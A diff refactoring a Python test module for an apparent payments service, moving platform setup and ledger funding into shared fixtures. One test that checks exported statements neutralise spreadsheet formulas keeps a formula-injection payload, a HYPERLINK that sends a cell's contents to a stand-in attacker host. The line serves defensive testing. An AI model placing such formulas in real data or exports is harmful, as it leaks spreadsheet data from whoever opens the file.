@@ -8,7 +8,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import secrets
 import socket
 import threading
 import uuid
@@ -21,18 +20,13 @@ from cloudevents.http import CloudEvent
 from werkzeug.serving import make_server
 from werkzeug.test import Client
 
-from shared.adapters.database import migrate
-from shared.adapters.ledger_store import system_account_id, wallet_account_id
 from shared.adapters.outbox import cloud_event_of
 from shared.adapters.tables import events
-from shared.bootstrap import platform, reset_platform
-from shared.domain.ledger import Transfer
 from shared.functions import FUNCTIONS, load_app
 from shared.runner.gateway import Gateway, GatewayRequestHandler, InProcessBackends
-from tests.fixtures.fx import write_rates_of
 from tests.fixtures.idempotency import fresh_key
-from tests.fixtures.keys import use_personal_data_keys, use_token_keys
-from tests.functions.conftest import moto_endpoint_in_process  # noqa: F401 - a session fixture
+from tests.fixtures.ledger import fund
+from tests.fixtures.platform import throwaway_platform
 
 PASSWORD = "plum-Harbour-7-lantern"
 WEB_ORIGIN = "http://localhost:8080"
@@ -40,23 +34,12 @@ ERROR_KEYS = {"type", "code", "message", "param"}
 
 
 @pytest.fixture(scope="module")
-def runtime(tmp_path_factory, moto_endpoint_in_process):  # noqa: F811 - one platform for the module
+def runtime(tmp_path_factory, moto_endpoint_in_process):
     """The throwaway platform of tests/functions, built once for this module: every test here
     makes its own users, and none needs an empty database."""
     home = tmp_path_factory.mktemp("hygiene")
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setenv("PAYSTREAM_DATABASE_URL", f"sqlite:///{home / 'paystream.db'}")
-        patch.setenv("PAYSTREAM_REDIS_URL", "memory://")
-        patch.setenv("PAYSTREAM_AWS_ENDPOINT_URL", moto_endpoint_in_process)
-        patch.setenv("PAYSTREAM_SECRET_KEY", secrets.token_urlsafe(48))
-        use_token_keys(patch, home / "keys")
-        use_personal_data_keys(patch, home / "keys")
-        patch.setenv("PAYSTREAM_FX_RATES_FILE", str(write_rates_of(home / "fx-rates.json", datetime.now(UTC).date())))
-        reset_platform()
-        built = platform()
-        migrate(built.engine)
+    with pytest.MonkeyPatch.context() as patch, throwaway_platform(home, patch, moto_endpoint_in_process) as built:
         yield built
-        reset_platform()
 
 
 @pytest.fixture(scope="module")
@@ -291,18 +274,7 @@ def test_statements_neutralise_formulas_and_keep_amounts_as_numbers(gateway, run
     _sign_up(gateway, payee_email, full_name="Bea Example")
     now = datetime.now(UTC)
     with runtime.engine.begin() as conn:
-        runtime.ledger.ensure_system_accounts(conn, "USD", now)
-        runtime.ledger.create_transfer(
-            conn,
-            Transfer(
-                id=f"fund:{uuid.uuid4().hex}",
-                debit_account_id=system_account_id("USD", "funding"),
-                credit_account_id=wallet_account_id(payer_id, "USD"),
-                amount_minor=1_000,
-                currency="USD",
-            ),
-            now,
-        )
+        fund(conn, runtime.ledger, payer_id, 1_000, now)
     note = '=HYPERLINK("https://evil.example/?leak="&A1,"refund")'
     answer = gateway.post(
         "/v1/payments",
